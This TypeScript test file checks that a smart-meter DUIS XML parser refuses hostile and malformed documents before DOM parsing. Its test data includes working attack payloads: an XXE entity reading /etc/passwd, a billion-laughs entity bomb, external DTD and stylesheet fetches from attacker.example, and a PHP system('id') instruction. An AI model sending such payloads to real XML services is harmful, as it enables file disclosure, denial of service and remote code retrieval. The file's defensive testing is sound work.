// A hostile corpus: each document is refused at the step a user would expect, with a reason that
// says where and what, and the unsafe ones never reach the DOM parser.
import { DOMParser } from '@xmldom/xmldom';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { DEFAULT_MAX_DUIS_BYTES, parseDuisResponse, verifyDuisSignature } from '../../service-requests/duis/index.ts';
import { parseDuisRequest } from '../../service-requests/index.ts';
import { duisKeyBySerial, DSP_XML_SIGN_SERIAL } from '../helpers/duis-keystore.ts';
import { TEMPLATES, expectRejection, rejectionOf, template } from './fixtures.ts';

const GOOD = template(TEMPLATES.readInventory82);
const HEAD = '<?xml version="1.0" encoding="UTF-8"?>';
const BODY_START = GOOD.indexOf('<sr:Request');

function withPrologue(prologue: string): string {
  return `${HEAD}${prologue}${GOOD.slice(BODY_START)}`;
}

describe('unsafe XML is refused before the DOM parser sees it', () => {
  let parse: ReturnType<typeof vi.spyOn>;
  beforeEach(() => {
    parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
  });
  afterEach(() => {
    parse.mockRestore();
  });

  const unsafe: Array<[string, string, RegExp]> = [
    ['XXE: an external entity reading a file', withPrologue('<!DOCTYPE sr:Request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('00-DB-12-34-56-78-90-A2', '&xxe;'),
      /line 1, column 39: DOCTYPE \(DTD\) is not allowed/],
    ['billion laughs', withPrologue(`<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`).replace('00-DB-12-34-56-78-90-A2', '&lol9;'),
      /DOCTYPE \(DTD\) is not allowed/],
    ['a parameter entity pulling an external DTD', withPrologue('<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]>'), /DOCTYPE/],
    ['a DOCTYPE naming an external DTD', withPrologue('<!DOCTYPE sr:Request SYSTEM "http://attacker.example/duis.dtd">'), /DOCTYPE \(DTD\) is not allowed/],
    ['a bare entity declaration', withPrologue('<!ENTITY x "y">'), /markup declaration <!ENTITY…> is not allowed/],
    ['a stylesheet processing instruction', withPrologue('<?xml-stylesheet href="http://attacker.example/x.xsl"?>'), /processing instruction <\?xml-stylesheet…\?> is not allowed/],
    ['a processing instruction inside the body', GOOD.replace('<sr:ReadInventory>', '<sr:ReadInventory><?php system("id") ?>'), /line 10, column \d+: processing instruction <\?php…\?> is not allowed/],
    ['a second XML declaration', GOOD.replace('<sr:Request', '<?xml version="1.0"?><sr:Request'), /the XML declaration is only allowed at the very start/],
    ['an undeclared entity reference', GOOD.replace('00-DB-12-34-56-78-90-A2', '&ent;'), /line 11, column 20: entity reference "&ent;" is not allowed/],
    ['a character reference to NUL', GOOD.replace('00-DB-12-34-56-78-90-A2', '&#0;'), /character reference "&#0;" names a character XML does not allow/],
    ['a raw control character', GOOD.replace('00-DB-12-34-56-78-90-A2', '00\u0001'), /character U\+0001 is not allowed in XML/],
    ['nesting 40 levels deep', GOOD.replace('<sr:ReadInventory>', `<sr:ReadInventory>${'<a>'.repeat(40)}${'</a>'.repeat(40)}`), /elements nested deeper than 32 levels/],
    ['an encoding other than UTF-8', GOOD.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), /encoding "ISO-8859-1" is not supported: DUIS documents must be UTF-8/],
  ];

  it.each(unsafe)('%s', (_name, xml, says) => {
    expectRejection(() => parseDuisRequest(xml), 'xml', says);
    expectRejection(() => parseDuisResponse(xml), 'xml', says);
    expect(verifyDuisSignature(xml, duisKeyBySerial(DSP_XML_SIGN_SERIAL).publicKey)).toMatchObject({ ok: false, reason: expect.stringMatching(says) });
    expect(parse).not.toHaveBeenCalled();
  });

  it('the billion-laughs document stays small: refused by the scan, not by running out of memory', () => {
    const before = process.memoryUsage().heapUsed;
    expectRejection(() => parseDuisRequest(unsafe[1]![1]), 'xml');
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(20 * 1024 * 1024);
  });
});

describe('malformed XML is refused with line and column', () => {
  it.each([
    ['mismatched end tag', GOOD.replace('</sr:ReadInventory>', '</sr:ReadInventry>'), /line 12, column 5: end tag <\/sr:ReadInventry> does not match <sr:ReadInventory> opened at line 10, column 5/],
    ['duplicate attribute', GOOD.replace('schemaVersion="5.4"', 'schemaVersion="5.4" schemaVersion="5.3"'), /line 2, column \d+: Attribute schemaVersion redefined/],
    ['an unquoted attribute', GOOD.replace('schemaVersion="5.4"', 'schemaVersion=5.4'), /line 2, column \d+: the value of attribute schemaVersion in <sr:Request> must be in quotes/],
    ['an unbound prefix', GOOD.replace('<sr:Body>', '<sr:Body><x:Note/>'), /line \d+, column \d+: .*prefix/i],
    ['a second root element', `${GOOD}<sr:Request/>`, /a second root element/],
    ['text after the root', `${GOOD}trailing`, /content after the root element/],
    ["'--' inside a comment", GOOD.replace('<sr:Header>', '<sr:Header><!-- a -- b -->'), /'--' is not allowed inside a comment/],
    ['an empty document', '', /document has no root element/],
    ['a bare <', GOOD.replace('<sr:DeviceID>', '<sr:DeviceID><'), /line 11, column 20: '<' must start a tag name \(escape a literal '<' as &lt;\)/],
  ])('%s', (_name, xml, says) => {
    expectRejection(() => parseDuisRequest(xml), 'xml', says);
  });

  it('any truncation of a request is refused as XML, never accepted and never a crash', () => {
    fc.assert(fc.property(fc.integer({ min: 0, max: GOOD.trimEnd().length - 1 }), (cut) => {
      const r = expectRejection(() => parseDuisRequest(GOOD.slice(0, cut)), 'xml');
      expect(r.reason.length).toBeGreaterThan(10);
    }), { numRuns: 300 });
  });
});

describe('floods within the size limit cost little', () => {
  const head = '<sr:Request xmlns:sr="http://www.dccinterface.co.uk/ServiceUserGateway" schemaVersion="5.4">';
  const timed = (xml: string): number => {
    const t = performance.now();
    rejectionOf(() => parseDuisRequest(xml));
    return performance.now() - t;
  };

  it('60 000 empty elements are refused at the 2001st, before the DOM parser', () => {
    const xml = `${head}<sr:Header>${'<x/>'.repeat(60_000)}</sr:Header></sr:Request>`;
    expectRejection(() => parseDuisRequest(xml), 'xml', /line 1, column \d+: more than 2000 elements/);
    expect(timed(xml)).toBeLessThan(500);
  });

  it('thousands of attributes on one element are refused at the 33rd', () => {
    const xml = `${head.slice(0, -1)}${Array.from({ length: 5000 }, (_, i) => ` a${i}="1"`).join('')}></sr:Request>`;
    expectRejection(() => parseDuisRequest(xml), 'xml', /more than 32 attributes on <sr:Request>/);
    expect(timed(xml)).toBeLessThan(500);
  });

  it('a quarter megabyte of character references is read in linear time', () => {
    const xml = `${head}<sr:Header>${'&amp;&#65;'.repeat(25_000)}</sr:Header></sr:Request>`;
    expectRejection(() => parseDuisRequest(xml), 'schema', /sr:Body is missing after sr:Header/);
    expect(timed(xml)).toBeLessThan(1000);
  });
});

describe('bytes, encodings and size', () => {
  it('a request over the size limit is refused as size before parsing', () => {
    const big = GOOD.replace('<sr:Header>', `<sr:Header><!--${'x'.repeat(DEFAULT_MAX_DUIS_BYTES)}-->`);
    expectRejection(() => parseDuisRequest(big), 'size', new RegExp(`document is ${Buffer.byteLength(big)} bytes, the limit is ${DEFAULT_MAX_DUIS_BYTES}`));
    expectRejection(() => parseDuisRequest(Buffer.from(big)), 'size');
    expectRejection(() => parseDuisRequest(GOOD, { maxBytes: 100 }), 'size', /the limit is 100/);
    expect(parseDuisRequest(GOOD, { maxBytes: GOOD.length }).body.kind).toBe('ReadInventory');
  });

  it('UTF-16 and invalid UTF-8 are refused', () => {
    expectRejection(() => parseDuisRequest(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(GOOD, 'utf16le')])), 'xml', /UTF-16/);
    const bytes = Buffer.from(GOOD);
    bytes[GOOD.indexOf('00-DB')] = 0xc3; // a lead byte without its continuation
    expectRejection(() => parseDuisRequest(bytes), 'xml', /not valid UTF-8/);
  });

  it('a UTF-8 byte order mark is accepted', () => {
    expect(parseDuisRequest(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(GOOD)])).body.kind).toBe('ReadInventory');
  });
});

describe('a parse leaves the process as it found it', () => {
  it('Object.create makes prototypes again after a document xmldom refuses halfway through', () => {
    // xmldom's namespace scopes are made flat while it parses (service-requests/duis/safe-xml.ts)
    const r = rejectionOf(() => parseDuisRequest(template(TEMPLATES.supplier6151Future).replace('<sr:Body>', '<sr:Body a="1" a="2">')));
    expect(r.step).toBe('xml');
    expect(r.message).toMatch(/redefined/);
    const parent = Object.create(null) as { inherited?: number };
    parent.inherited = 1;
    const child = Object.create(parent) as { inherited?: number };
    expect(Object.hasOwn(child, 'inherited')).toBe(false);
    expect(child.inherited).toBe(1);
  });
});

describe('wrong namespace, bad base64, not a certificate', () => {
  const cert = template(TEMPLATES.no6151);
  const ds = /<sr:DigitalSigningCertificate>([^<]+)</.exec(cert)![1]!;

  it('the right elements in the wrong namespace are a schema error naming the namespace', () => {
    expectRejection(() => parseDuisRequest(GOOD.replace('http://www.dccinterface.co.uk/ServiceUserGateway', 'http://www.dccinterface.co.uk/ServiceUserGateway/v2')),
      'schema', /root element is \{http:\/\/www\.dccinterface\.co\.uk\/ServiceUserGateway\/v2\}Request, expected sr:Request/);
  });

  it('bad base64 is a schema error naming the element', () => {
    expectRejection(() => parseDuisRequest(cert.replace(ds, `${ds.slice(0, 20)}*${ds.slice(21)}`)), 'schema',
      /sr:SupplierOrNetworkOperatorCertificates\/sr:DigitalSigningCertificate: not valid xs:base64Binary/);
  });

  it('base64 that is not a certificate is a content error naming the element', () => {
    for (const junk of [Buffer.alloc(0), Buffer.from('30820100', 'hex'), Buffer.from(ds, 'base64').subarray(0, 200), Buffer.from('-----BEGIN CERTIFICATE-----')]) {
      expectRejection(() => parseDuisRequest(cert.replace(ds, junk.toString('base64'))), 'content', /DigitalSigningCertificate: not a certificate/);
    }
  });
});
